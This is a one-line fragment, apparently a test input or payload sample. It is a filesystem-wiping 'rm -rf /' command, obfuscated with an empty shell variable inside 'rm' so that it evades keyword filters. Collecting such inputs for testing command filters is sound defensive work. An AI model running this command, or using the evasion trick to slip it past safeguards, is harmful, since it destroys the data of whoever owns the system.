r${EMPTY}m -rf /
